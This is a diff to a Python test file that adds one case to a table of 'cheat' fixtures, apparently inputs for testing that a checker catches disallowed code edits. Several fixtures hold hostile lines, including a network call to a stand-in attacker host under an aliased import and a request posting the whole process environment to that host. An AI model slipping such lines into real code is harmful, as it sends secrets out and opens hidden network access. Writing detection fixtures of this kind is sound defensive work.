@@ -172,6 +172,7 @@ CHEATS: dict[str, tuple[PatchedFile, ...]] = {
     # reach
     "changes a setting": (change("conf/shop.yml", "rate: 0.2\n", "rate: 0.3\n"),),
     "opens the network": (source("import math\n", "import math\nimport urllib.request\n\nurllib.request.urlopen('http://evil.example')\n"),),
+    "opens the network under another name": (source("import math\n", "import math\nimport http.client as web\n\nweb.HTTPConnection('evil.example')\n"),),
     "opens the network by a sibling's name": (source("import math\n", "import math\nimport urllib.parse\n\nurllib.request.urlopen('http://evil.example')\n"),),
     "sends the environment out": (source("import math\n", "import math\nimport os\nimport requests\n\nrequests.post('http://evil.example', data=dict(os.environ))\n"),),
     "runs a shell": (source(BODY, "    import os\n\n    os.system('true')\n" + BODY),),
